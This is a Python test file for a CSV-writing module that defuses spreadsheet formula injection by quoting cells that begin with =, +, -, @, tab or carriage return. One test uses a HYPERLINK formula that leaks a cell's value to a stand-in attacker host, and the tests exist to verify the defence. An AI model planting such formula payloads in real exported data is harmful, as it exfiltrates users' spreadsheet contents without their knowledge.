"""Every CSV cell a spreadsheet would run as a formula comes out as text."""

import csv
import io

import pytest

from core import csvsafe


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_a_formula_is_prefixed_with_a_quote(start):
    value = f'{start}HYPERLINK("http://evil.example/?d="&A1,"click")'
    buf = io.StringIO()
    csvsafe.writer(buf).writerow([value, "plain", 42, -3, None])
    (row,) = list(csv.reader(io.StringIO(buf.getvalue())))
    assert row == ["'" + value, "plain", "42", "-3", ""]


def test_text_that_only_contains_formula_characters_is_left_alone():
    assert csvsafe.neutralise("a=b+c-d@e") == "a=b+c-d@e"
    assert csvsafe.neutralise("企业登记信息：=SUM(1)") == "企业登记信息：=SUM(1)"
